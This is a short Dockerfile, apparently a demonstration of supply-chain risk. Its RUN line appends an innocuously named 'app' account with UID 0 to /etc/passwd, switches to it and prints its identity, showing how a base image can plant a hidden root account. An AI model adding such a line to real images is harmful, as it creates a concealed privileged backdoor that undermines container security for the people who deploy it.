FROM busybox:1.37
# A base image could do this without you noticing.
RUN echo 'app:x:0:0::/home/app:/bin/sh' >> /etc/passwd
USER app
CMD ["id"]
